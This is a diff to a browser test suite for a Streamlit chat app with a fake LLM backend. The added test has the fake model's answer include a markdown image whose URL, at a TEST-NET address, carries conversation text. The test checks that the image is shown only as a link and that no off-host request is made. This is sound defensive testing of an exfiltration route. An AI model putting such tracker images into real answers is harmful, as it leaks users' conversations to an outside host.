@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Browser, expect
 
-from tests.browser_support import UI_TIMEOUT_MS, app_env, ask, browser, open_page, screenshot
+from tests.browser_support import UI_TIMEOUT_MS, app_env, ask, browser, off_host_requests, open_page, screenshot
 from tests.fake_llm import FakeLLMServer, delayed, openai_text, openai_tool_calls, tool_call, transcription_reply
 from tests.media_samples import make_video
 from tests.streamlit_server import run_streamlit
@@ -18,6 +18,8 @@ pytestmark = [pytest.mark.browser, pytest.mark.slow]
 __all__ = ["browser"]  # the fixture, imported for this module
 
 ANSWER = "The clip says: welcome to the old harbour."
+TRACKER = "http://198.51.100.7/wave.png?c=welcome"
+"""An image in the answer (TEST-NET address): drawing it would send the conversation to that host."""
 
 
 def test_browser_chat_with_tool_card_survives_reload(browser: Browser, fake_llm: FakeLLMServer, tmp_path: Path) -> None:
@@ -28,7 +30,9 @@ def test_browser_chat_with_tool_card_survives_reload(browser: Browser, fake_llm:
             transcription_reply("welcome to the old harbour", segments=[(0.0, 2.5, "welcome to the old harbour")]), 2.0
         )
     )
-    fake_llm.chat.push(openai_tool_calls(tool_call("transcribe_video", {})), openai_text(ANSWER))
+    fake_llm.chat.push(
+        openai_tool_calls(tool_call("transcribe_video", {})), openai_text(f"{ANSWER}\n\n![waveform]({TRACKER})")
+    )
     with run_streamlit(app_env(fake_llm, tmp_path / "data"), tmp_path) as server:
         page = open_page(browser, server.base_url)
         page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(str(clip))
@@ -61,7 +65,9 @@ def test_browser_chat_with_tool_card_survives_reload(browser: Browser, fake_llm:
         expect(page.get_by_text("What is said in the harbour clip?").first).to_be_visible()
         expect(page.get_by_test_id("stExpander").filter(has_text="transcribe_video")).to_have_count(1)
         assert page.url == url
+        expect(page.get_by_role("link", name="waveform")).to_have_attribute("href", TRACKER)  # a link, not an image
         screenshot(page, "after-reload.png")
+        assert off_host_requests(page) == []  # no image fetched, no icon from a CDN
     # The model saw the uploaded asset, and the tool result went back to it.
     assert "harbour.mp4" in fake_llm.chat.requests[0].json["messages"][0]["content"]
     assert fake_llm.chat.last.json["messages"][-1]["role"] == "tool"
